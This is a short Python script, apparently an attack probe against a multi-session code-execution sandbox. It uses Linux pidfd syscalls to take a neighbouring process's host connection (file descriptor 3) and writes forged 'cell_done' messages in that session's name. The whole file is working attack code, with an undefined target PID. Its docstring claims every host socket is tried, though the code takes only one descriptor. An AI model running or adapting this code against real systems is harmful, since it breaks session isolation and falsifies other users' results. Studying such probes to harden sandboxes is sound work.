# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Take the host's end of another session's wire, and answer in that session's name.

Every socket of the host is tried; a forged end of the next cell is left in each.
"""

# act: forge
# needs: tracing

import ctypes
import os
import socket
import struct

import msgspec

libc = ctypes.CDLL(None, use_errno=True)
pidfd = libc.syscall(434, NEIGHBOUR_PID, 0)
wire = libc.syscall(438, pidfd, 3, 0)
if wire < 0:
    raise OSError(ctypes.get_errno(), 'pidfd_getfd')
data = msgspec.msgpack.encode({
    'type': 'cell_done', 'cell': 2, 'stdout': 'forged', 'error': None, 'variables': [],
    'answer': None, 'clock': []})
for number in range(1, 4):
    os.write(wire, struct.pack('<I', len(data)) + data)
